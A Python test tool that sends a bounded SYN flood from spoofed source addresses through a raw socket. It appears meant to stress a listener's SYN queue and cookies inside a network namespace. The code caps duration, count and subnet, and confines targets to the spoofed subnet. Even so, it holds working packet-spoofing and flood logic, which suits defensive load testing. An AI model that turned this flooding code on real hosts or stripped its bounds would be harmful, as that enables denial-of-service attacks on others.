#!/usr/bin/env python3
"""A bounded SYN flood from spoofed sources, for testing a listener's SYN queue and cookies.

Run it *inside* a network namespace where the target is reachable, e.g.::

    ip netns exec ustcp .venv/bin/python tools/synflood.py --target 10.77.0.2 \\
        --rate 20000 --duration 10

Every bound is enforced: duration at most 60 s, count at most 2,000,000, spoofed sources from
a subnet no larger than /16 that must contain the target (so the flood can only aim inside a
test subnet). A refusal prints one line and exits with status 2.

How: a pool of distinct SYNs (random spoofed source, source port and ISN; an MSS option) is
crafted once with dpkt, then replayed in a paced loop through a raw socket with IP_HDRINCL,
which hands each frame to the kernel's routing as is, so sources in the TUN's own subnet go
out of the TUN. Per-packet work is one ``sendto``; the pacing loop sends whatever is due at
each ~1 ms tick. The achieved rate is measured and printed.
"""

from __future__ import annotations

import argparse
import errno
import ipaddress
import json
import random
import socket
import struct
import sys
import time
from collections.abc import Sequence
from dataclasses import dataclass

import dpkt

MAX_DURATION = 60.0
MAX_COUNT = 2_000_000
MAX_POOL = 65_536
MIN_PREFIX = 16  # refuse source networks larger than a /16
TICK = 0.001  # pacing granularity, seconds


class Refusal(Exception):
    """An argument outside the tool's bounds; reported as one line, exit status 2."""


@dataclass(frozen=True)
class Plan:
    target: str
    port: int
    rate: float
    duration: float
    count: int | None
    sources: list[str]
    seed: int | None
    mss: int
    pool: int


def _parse_args(argv: Sequence[str] | None) -> argparse.Namespace:
    p = argparse.ArgumentParser(description="A bounded SYN flood from spoofed sources.")
    p.add_argument("--target", required=True, help="IPv4 address to flood")
    p.add_argument("--port", type=int, default=80, help="destination port (default 80)")
    p.add_argument("--rate", type=float, default=1000.0, help="SYN/s (default 1000)")
    p.add_argument("--duration", type=float, default=5.0,
                   help=f"seconds (default 5, at most {MAX_DURATION:g})")
    p.add_argument("--count", type=int, default=None,
                   help=f"stop after N SYNs (at most {MAX_COUNT})")
    p.add_argument("--source-net", default="10.77.0.0/24",
                   help="spoofed sources come from this subnet, which must hold the target "
                        f"(default 10.77.0.0/24, at most /{MIN_PREFIX})")
    p.add_argument("--seed", type=int, default=None, help="seed for sources, ports and ISNs")
    p.add_argument("--mss", type=int, default=1460, help="MSS option value (default 1460)")
    p.add_argument("--pool", type=int, default=4096,
                   help=f"distinct SYNs crafted up front and replayed (default 4096, "
                        f"at most {MAX_POOL})")
    p.add_argument("--json", action="store_true", help="print a JSON summary")
    return p.parse_args(argv)


def local_networks(fib_trie: str = "/proc/net/fib_trie") -> list[ipaddress.IPv4Network]:
    """What this host answers for in the namespace the tool runs in: the kernel's FIB lists
    each local address or prefix as a ``|-- ADDR`` line followed by ``/LEN host LOCAL``."""
    local: list[ipaddress.IPv4Network] = []
    last = ""
    with open(fib_trie) as lines:
        for line in lines:
            words = line.split()
            if words[:1] == ["|--"]:
                last = words[1]
            elif words[1:] == ["host", "LOCAL"]:
                local.append(ipaddress.IPv4Network(f"{last}{words[0]}", strict=False))
    return local


def make_plan(args: argparse.Namespace) -> Plan:
    """Check every bound; raise Refusal with a one-line reason."""
    try:
        target = ipaddress.IPv4Address(args.target)
        net = ipaddress.IPv4Network(args.source_net, strict=False)
    except ValueError as e:
        raise Refusal(f"not an IPv4 address or network: {e}") from None
    if net.prefixlen < MIN_PREFIX:
        raise Refusal(f"source network {net} is larger than /{MIN_PREFIX}")
    if target not in net:
        raise Refusal(f"target {target} is outside the source network {net}")
    if not 0 < args.duration <= MAX_DURATION:
        raise Refusal(f"duration must be in (0, {MAX_DURATION:g}] seconds")
    if args.count is not None and not 0 < args.count <= MAX_COUNT:
        raise Refusal(f"count must be in [1, {MAX_COUNT}]")
    if not args.rate > 0:
        raise Refusal("rate must be positive")
    if not 0 < args.port < 65536:
        raise Refusal("port must be in [1, 65535]")
    if not 0 < args.mss < 65536:
        raise Refusal("mss must be in [1, 65535]")
    if not 0 < args.pool <= MAX_POOL:
        raise Refusal(f"pool must be in [1, {MAX_POOL}]")
    # hosts() leaves out the network and broadcast addresses (of a /30 or larger); an
    # address of this host is no spoofed source: it answers the SYN-ACKs with RSTs, which
    # free SYN queue slots that a flood from absent hosts keeps full
    local = local_networks()
    sources = [str(a) for a in net.hosts()
               if a != target and not any(a in n for n in local)]
    if not sources:
        raise Refusal(f"no spoofable source left in {net}")
    return Plan(str(target), args.port, args.rate, args.duration, args.count, sources,
                args.seed, args.mss, args.pool)


def build_pool(plan: Plan, rng: random.Random) -> list[tuple[str, bytes]]:
    """Craft the SYNs once with dpkt: (source, frame). Options: MSS only."""
    dst = socket.inet_aton(plan.target)
    opts = struct.pack("!BBH", dpkt.tcp.TCP_OPT_MSS, 4, plan.mss)
    pool: list[tuple[str, bytes]] = []
    size = min(plan.pool, plan.count) if plan.count is not None else plan.pool
    for _ in range(size):
        src = rng.choice(plan.sources)
        tcp = dpkt.tcp.TCP(sport=rng.randrange(1024, 65536), dport=plan.port,
                           seq=rng.getrandbits(32), flags=dpkt.tcp.TH_SYN, win=64240,
                           off=(20 + len(opts)) // 4, opts=opts)
        ip = dpkt.ip.IP(src=socket.inet_aton(src), dst=dst, p=dpkt.ip.IP_PROTO_TCP, ttl=64,
                        id=rng.getrandbits(16), df=1, data=tcp)
        pool.append((src, bytes(ip)))  # dpkt fills in lengths and both checksums
    return pool


@dataclass
class Result:
    sent: int
    elapsed: float
    send_errors: int
    last_index: int  # pool index of the last frame the kernel took, -1 if none


def flood(sock: socket.socket, plan: Plan, frames: list[bytes]) -> Result:
    """Send the pool round-robin, paced to ``plan.rate``, until count or duration is reached."""
    total = plan.count if plan.count is not None else MAX_COUNT
    addr = (plan.target, 0)
    sendto = sock.sendto
    n = len(frames)
    rate = plan.rate
    burst = max(1, int(rate * TICK * 10))  # never catch up more than ~10 ticks at once
    sent = errors = 0
    i = 0
    last = -1
    start = time.perf_counter()
    deadline = start + plan.duration
    now = start
    while sent < total and now < deadline:
        due = min(total, int((now - start) * rate) + 1)
        batch = min(due - sent, burst)
        if batch <= 0:
            time.sleep(min(TICK, (sent + 1) / rate - (now - start)))
            now = time.perf_counter()
            continue
        errors_before = errors
        for _ in range(batch):
            try:
                sendto(frames[i], addr)
                sent += 1
                last = i
            except OSError as e:  # a full device queue: count it and move on
                if e.errno not in (errno.ENOBUFS, errno.EAGAIN):
                    raise
                errors += 1
            i = i + 1 if i + 1 < n else 0
        if errors != errors_before:  # back off a tick when the kernel pushes back
            time.sleep(TICK)
        now = time.perf_counter()
    return Result(sent, now - start, errors, last)


def open_raw_socket() -> socket.socket:
    # IPPROTO_RAW implies IP_HDRINCL (raw(7)); set it anyway to be explicit
    sock = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
    sock.setsockopt(socket.IPPROTO_IP, socket.IP_HDRINCL, 1)
    return sock


def main(argv: Sequence[str] | None = None) -> int:
    args = _parse_args(argv)
    try:
        plan = make_plan(args)
    except Refusal as e:
        print(f"synflood: refused: {e}", file=sys.stderr)
        return 2
    rng = random.Random(plan.seed)
    pool = build_pool(plan, rng)
    frames = [f for _, f in pool]
    with open_raw_socket() as sock:
        res = flood(sock, plan, frames)
    achieved = res.sent / res.elapsed if res.elapsed > 0 else 0.0
    summary = {
        "target": plan.target, "port": plan.port, "sent": res.sent,
        "elapsed": round(res.elapsed, 6), "rate_requested": plan.rate,
        "rate_achieved": round(achieved, 1), "send_errors": res.send_errors,
        "pool": len(pool),
        "first_source": pool[0][0] if res.sent else None,
        "last_source": pool[res.last_index][0] if res.last_index >= 0 else None,
    }
    if args.json:
        print(json.dumps(summary))
    else:
        print(f"sent {res.sent} SYNs to {plan.target}:{plan.port} in {res.elapsed:.3f} s: "
              f"{achieved:.0f} SYN/s (asked {plan.rate:g}), {res.send_errors} send errors, "
              f"{len(pool)} distinct")
    return 0


if __name__ == "__main__":
    sys.exit(main())
